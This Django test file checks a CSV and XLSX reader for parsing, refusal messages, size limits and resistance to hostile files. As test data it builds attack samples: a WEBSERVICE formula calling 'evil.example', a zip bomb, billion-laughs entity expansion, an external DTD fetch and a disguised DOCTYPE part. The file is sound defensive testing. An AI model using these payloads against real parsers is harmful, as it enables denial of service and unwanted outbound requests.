"""What is read of the files that editors bring, and what is refused in words."""

import io
import zipfile
from contextlib import suppress
from datetime import date, datetime

import openpyxl
from django.test import SimpleTestCase
from openpyxl.styles import numbers

from articles import spreadsheets
from articles.spreadsheets import UnreadableTableError, read


def workbook(*rows, formats=None):
    """An XLSX file of one sheet."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for cell, number_format in (formats or {}).items():
        book.active[cell].number_format = number_format
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def with_part(content, name, replace):
    """The same workbook with one of its parts rewritten."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            data = old.read(part)
            new.writestr(part.filename, replace(data) if part.filename == name else data)
    return file.getvalue()


class ReadTests(SimpleTestCase):
    def assert_refused(self, content, sentence):
        with self.assertRaises(UnreadableTableError) as caught:
            read(content)
        self.assertIn(sentence, str(caught.exception))

    def test_csv_with_comma_or_semicolon_with_or_without_a_mark_of_its_encoding(self):
        for content in ("a,b\r\n1,é\r\n", "a;b\n1;é\n", "\ufeffa,b\r\n1,é", "a ; b\r\n1;é;\r\n"):
            with self.subTest(content):
                table = read(content.encode())
                self.assertEqual((table.headers, list(table)), (["a", "b"], [("1", "é")]))

    def test_quoted_cells_hold_what_they_like(self):
        table = read(b'a,b\r\n"1,\r\n2","say ""x"""\r\n')

        self.assertEqual(list(table), [("1,\r\n2", 'say "x"')])

    def test_empty_rows_keep_their_place_and_those_at_the_end_are_left_away(self):
        table = read(b"a,b\n1,2\n,\n\n3,4\n,\n\n")

        self.assertEqual(list(table), [("1", "2"), ("", ""), ("", ""), ("3", "4")])

    def test_a_workbook_gives_text_as_our_files_have_it(self):
        content = workbook(
            ["n", "f", "yes", "day", "month", "none", "text"],
            [65000, 1.5, True, datetime(2025, 6, 30), date(2025, 6, 1), None, " x "],
            formats={"D2": numbers.FORMAT_DATE_YYYYMMDD2, "E2": "mmm yy"},
        )

        self.assertEqual(list(read(content)), [("65000", "1.5", "true", "2025-06-30", "2025-06", "", " x ")])

    def test_formulas_are_not_worked_out(self):
        content = workbook(["a", "b"], ['=WEBSERVICE("http://evil.example")', 1])

        self.assertEqual(list(read(content)), [("", "1")])

    def test_of_a_formula_the_value_that_was_last_seen_is_read(self):
        content = workbook(["a"], ["=1+1"])
        content = with_part(content, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<v />", b"<v>2</v>"))

        self.assertEqual(list(read(content)), [("2",)])

    def test_what_is_no_table_is_refused_in_words(self):
        plain_zip = io.BytesIO()
        with zipfile.ZipFile(plain_zip, "w") as package:
            package.writestr("a.txt", "a")
        refused = {
            b"": "is empty",
            b"\r\n \r\n": "is empty",
            b"\xd0\xcf\x11\xe0\xa1": ".xls",
            "a,é\n1,2".encode("latin-1"): "not in UTF-8",
            "a,b\n1,2".encode("utf-16"): "not in UTF-8",
            b"a,b\n1,\x002": "not in UTF-8",
            b'a,b\n1,"2\n': "cannot be read as CSV near line",
            b'a,b\n1,"2"x\n': "cannot be read as CSV near line 2",
            b"a,b\n1,2,3\n": "Row 2 has 3 cells",
            b"a,a\n1,2\n": "The column a is there twice",
            b"a,,b\n1,2,3\n": "Column 2 holds values but has no name",
            b"PK\x03\x04 and no more": "is broken",
            plain_zip.getvalue(): "no Excel workbook",
            workbook(["a"], ["1"])[:-40]: "is broken",
            with_part(workbook(["a"]), "xl/worksheets/sheet1.xml", lambda xml: xml[:50]): "is broken",
            with_part(workbook(["a"]), "xl/workbook.xml", lambda xml: b"<workbook/>"): "is broken",
        }
        for content, sentence in refused.items():
            with self.subTest(content[:30]):
                self.assert_refused(content, sentence)

    def test_there_are_limits_of_size_rows_and_columns(self):
        columns = ",".join(f"c{number}" for number in range(51))
        self.assert_refused(b"a\n" + b"x" * 5_000_000, "larger than 5 MB")
        self.assert_refused(b"a\n" + b"1\n" * 2_001, "more than 2,000 rows")
        self.assert_refused(columns.encode(), "more than 50 columns")
        self.assert_refused(workbook(columns.split(",")), "more than 50 columns")
        self.assert_refused(workbook(["a"], *[[1]] * 2_001), "more than 2,000 rows")
        self.assertEqual(len(read(b"a\n" + b"1\n" * 2_000)), 2_000)

    def test_a_workbook_that_unpacks_to_too_much_is_not_unpacked(self):
        bomb = with_part(workbook(["a"]), "docProps/app.xml", lambda xml: b"0" * (spreadsheets.MAX_UNPACKED_BYTES + 1))

        self.assertLess(len(bomb), 100_000)
        self.assert_refused(bomb, "unpacks to more than 20 MB")

    def test_rows_without_end_are_counted_before_they_are_read(self):
        rows = b"<row/>" * (spreadsheets.MAX_SCANNED_ROWS + 1)
        endless = with_part(
            workbook(["a"]),
            "xl/worksheets/sheet1.xml",
            lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"),
        )

        self.assert_refused(endless, "more than 2,000 rows")

    def test_a_part_that_only_its_relationship_makes_a_sheet_defines_no_entities_either(self):
        evil = b'<!DOCTYPE a [<!ENTITY e "x">]><worksheet><sheetData/></worksheet>'
        file = io.BytesIO(workbook(["a"]))
        with zipfile.ZipFile(file, "a") as package:
            package.writestr("xl/worksheets/sheet1.png", evil)

        self.assert_refused(file.getvalue(), "document type")

    def test_a_workbook_with_any_byte_overwritten_is_refused_in_words_or_read(self):
        whole = workbook(["a", "b"], ["1", "2"], ["3", "4"])
        for place in range(0, len(whole), 7):
            broken = whole[:place] + bytes([whole[place] ^ 0xFF]) + whole[place + 1 :]
            with self.subTest(place), suppress(UnreadableTableError):
                read(broken)

    def test_a_sheet_with_far_away_rows_ends_soon(self):
        far = with_part(
            workbook(["a"], ["1"]),
            "xl/worksheets/sheet1.xml",
            lambda xml: xml.replace(b'<row r="2"', b'<row r="1048576"').replace(b'r="A2"', b'r="A1048576"'),
        )

        self.assert_refused(far, "more than 2,000 rows")

    def test_entities_are_not_expanded_nor_fetched_in_whatever_encoding(self):
        lol = '<?xml version="1.0"{}?><!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "{}">]><a>&b;</a>'
        for encoding, name in (("utf-8", ""), ("utf-16", ' encoding="utf-16"')):
            evil = lol.format(name, "&a;" * 1000).encode(encoding)
            for part in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"):
                with self.subTest(f"{encoding} {part}"):
                    self.assert_refused(with_part(workbook(["a"]), part, lambda xml, evil=evil: evil), "document type")
        fetched = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'
        self.assert_refused(with_part(workbook(["a"]), "xl/styles.xml", lambda xml: fetched), "document type")
